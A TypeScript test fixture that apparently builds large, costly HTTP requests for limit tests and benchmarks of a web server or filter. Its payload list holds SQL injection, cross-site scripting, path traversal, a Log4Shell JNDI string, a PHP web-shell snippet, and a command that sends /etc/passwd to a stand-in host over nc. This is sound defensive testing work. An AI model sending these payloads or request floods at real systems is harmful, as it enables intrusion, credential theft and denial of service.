// Requests of about 128 kB that are meant to cost a lot: for tests of limits, and for benchmarks.
export interface HostileRequest {
  readonly name: string
  readonly target: string
  readonly headers: Readonly<Record<string, string>>
  readonly body: string
}

const SIZE = 128 * 1024
const ATTACKS = [
  "1' union select password from users--",
  '<script>alert(document.cookie)</script>',
  ';cat /etc/passwd|nc 192.0.2.1 4444',
  '../../../../etc/passwd',
  '${jndi:ldap://192.0.2.1/a}',
  '{{7*7}}<?php system($_GET[1]);?>',
]
const PUNCTUATION = '<"\'(;|`$&)=/\\#-*{}'

/** Numbered, so that no two values are equal: what was read once costs nothing the second time. */
const attack = (i: number, length: number): string => {
  const from = i % ATTACKS.length
  const text = [...ATTACKS.slice(from), ...ATTACKS.slice(0, from)].join(String(i))
  return text.repeat(Math.ceil(length / text.length)).slice(0, length)
}
const fill = (text: string): string => text.repeat(Math.ceil(SIZE / text.length)).slice(0, SIZE)
const list = (count: number, item: (i: number) => string): readonly string[] =>
  Array.from({ length: count }, (_, i) => item(i))

const form = (name: string, body: string): HostileRequest => ({
  name,
  target: '/',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: body.slice(0, SIZE),
})
const typed = (name: string, type: string, body: string): HostileRequest => ({
  name,
  target: '/',
  headers: { 'content-type': type },
  body: body.slice(0, SIZE),
})

function encoded(text: string, times: number): string {
  let out = text
  for (let i = 0; i < times; i += 1) out = encodeURIComponent(out)
  return out
}

export const HOSTILE_REQUESTS: readonly HostileRequest[] = [
  form('one value of quotes', `a=${fill("'")}`),
  form('one value of spaces', `a=${fill('+')}`),
  form('one value of attack words', `a=${fill('select+union+')}`),
  form('one value of attacks', `a=${encodeURIComponent(attack(0, SIZE))}`),
  form('one value of punctuation', `a=${encodeURIComponent(fill(PUNCTUATION))}`),
  form('one value of open tags', `a=${fill('<a ')}`),
  form('15,000 arguments', list(15_000, (i) => `a${i}=1`).join('&')),
  form('15,000 arguments without values', list(15_000, (i) => `a${i}[b]`).join('&')),
  form('5,000 arguments of attack words', list(5_000, (i) => `a${i}=select(union)`).join('&')),
  form('1,000 arguments of 120 bytes of attacks', list(1_000, (i) => `a${i}=${attack(i, 120)}`).join('&')),
  form(
    '200 arguments of punctuation',
    list(200, (i) => `a${i}=${PUNCTUATION.replaceAll(/[&=#]/g, '').repeat(36)}${i}`).join('&'),
  ),
  form(
    '1,000 arguments with capital letters',
    list(1_000, (i) => `A${i}=${`A b ${i} `.repeat(12)}`).join('&'),
  ),
  form('values encoded three times', list(200, (i) => `a${i}=${encoded(attack(i, 100), 3)}`).join('&')),
  form('character references', `a=${encodeURIComponent(fill('&lt;&#x6a;&#97;'))}`),
  form('script escapes', `a=${encodeURIComponent(fill(String.raw`\u0061\x62\'`))}`),
  form('comments', `a=${encodeURIComponent(fill('/**/or/*!1*/'))}`),
  typed('escapes of code units', 'application/json', JSON.stringify([fill('%u0041%41')])),
  form('segments of a path', `a=${fill('/../.')}`),
  form('a thousand values in base64', list(1_000, (i) => `a${i}=${btoa(attack(i, 90))}`).join('&')),
  typed('JSON of many pairs', 'application/json', `{${list(5_500, (i) => `"k${i}":"<b>${i}"`).join(',')}}`),
  typed('JSON of 1,000 attacks', 'application/json', JSON.stringify(list(1_000, (i) => attack(i, 110)))),
  typed('JSON that is nested deeply', 'application/json', '[{"a":'.repeat(21_000)),
  typed('XML of many attributes', 'text/xml', `<a ${list(9_000, (i) => `b${i}="<1"`).join(' ')}>`),
  typed('XML of open tags', 'text/xml', fill('<a <b ')),
  typed(
    '1,000 parts',
    'multipart/form-data; boundary=b',
    list(
      1_000,
      (i) => `--b\r\nContent-Disposition: form-data; name="f${i}"\r\n\r\n${attack(i, 60)}\r\n`,
    ).join(''),
  ),
  typed('a body of no type', 'text/plain', `It says: ${attack(1, SIZE)}`),
  {
    name: '4,000 cookies',
    target: '/',
    headers: { cookie: list(4_000, (i) => `c${i}=<${i}`).join('; ') },
    body: '',
  },
  {
    name: 'a target of attacks',
    target: `/?${list(300, (i) => `a${i}=${encodeURIComponent(attack(i, 60))}`).join('&')}`,
    headers: {},
    body: '',
  },
  {
    name: '500 headers of attacks',
    target: '/',
    headers: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`x-${i}`, attack(i, 120)])),
    body: '',
  },
]
